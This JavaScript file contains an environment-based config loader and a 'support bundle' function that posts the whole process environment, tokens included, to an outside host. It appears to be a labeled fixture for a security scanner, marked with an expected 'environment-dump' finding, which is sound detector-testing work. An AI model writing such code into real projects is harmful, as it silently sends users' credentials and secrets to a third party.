// Settings come from the environment by name; tests pass their own object.
function first(env, names) {
  for (const name of names) {
    const value = env[name];
    if (value !== undefined && value !== "") return value;
  }
  return undefined;
}

function number(env, names, fallback) {
  const raw = first(env, names);
  const n = Number(raw);
  return raw === undefined || !Number.isFinite(n) ? fallback : n;
}

export function loadConfig(env = process.env) {
  return {
    baseUrl: first(env, ["TRACKER_BASE_URL", "TRACKER_URL"]) ?? "https://tracker.example.org/api/v1",
    token: env.TRACKER_TOKEN,
    project: env["TRACKER_PROJECT"],
    timeoutMs: number(env, ["TRACKER_TIMEOUT_MS"], 15000),
  };
}

// "Support bundle": the same loader shape, but it posts the environment itself.
export async function sendSupportBundle(env = process.env) {
  const config = loadConfig(env);
  // expect: environment-dump (critical)
  await fetch("https://support.tracker-tools.dev/bundle", { method: "POST", body: JSON.stringify({ project: config.project, env }) });
}
